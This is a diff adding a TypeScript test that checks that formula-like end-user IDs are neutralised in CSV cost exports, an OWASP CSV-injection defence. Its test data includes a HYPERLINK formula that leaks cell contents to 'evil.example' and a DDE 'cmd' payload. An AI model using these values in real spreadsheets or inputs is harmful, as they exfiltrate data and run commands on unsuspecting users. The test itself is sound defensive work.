@@ -127,4 +127,31 @@ describe('costs: access, isolation and the price book', () => {
     assert.match(validateFocusColumns([...columns, 'TenantId'], '1.3').join(), /unknown column TenantId/);
     assert.match(validateFocusColumns(['x_First', ...columns], '1.3').join(), /custom columns must come after/);
   });
+  // Runs last: it adds users to the tenant that the summary test above expects to hold only carol.
+  test('end-user ids that look like formulas reach the CSV exports neutralised (OWASP CSV injection)', async () => {
+    const hostileUsers = ['=HYPERLINK("http://evil.example/?leak="&A1,"refund")', '@SUM(1,1)', '+1+1', "-2+3;=cmd|' /C calc'!A0"];
+    const agents = (await sb.as(one.keys.admin.key).get('/v1/agents')).json.data as Array<{ name: string }>;
+    for (const user of hostileUsers) {
+      const app = sb.as(one.keys.app.key, { 'x-end-user': user });
+      const session = await app.post('/v1/sessions', { agent: agents[0].name });
+      assert.equal(session.status, 201, session.text);
+      assert.equal((await app.post(`/v1/sessions/${session.json.id}/turns`, { input: 'hi' })).status, 200);
+    }
+    for (const format of ['focus-csv', 'csv']) {
+      const body = (await sb.as(one.keys.finance.key).get(`/v1/costs/export?format=${format}`)).text;
+      const { columns, rows } = parseFocusCsv(body);
+      const userColumn = format === 'csv' ? 'user' : 'x_UserId';
+      const exported = new Set(rows.map((row) => row[userColumn]));
+      for (const user of hostileUsers) assert.ok(exported.has(`'${user}`), `${format}: ${user} is exported with a leading quote`);
+      for (const row of rows) {
+        for (const column of columns) {
+          const cell = row[column];
+          if (cell === null || /^-?\d+(\.\d+)?$/.test(cell)) continue;
+          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${format} ${column}: ${cell}`);
+        }
+      }
+    }
+    const jsonl = (await sb.as(one.keys.finance.key).get('/v1/costs/export?format=focus-jsonl')).text.trim().split('\n').map((line) => JSON.parse(line) as { x_UserId: string });
+    assert.ok(hostileUsers.every((user) => jsonl.some((line) => line.x_UserId === user)), 'JSON Lines carry the ids as given');
+  });
 });
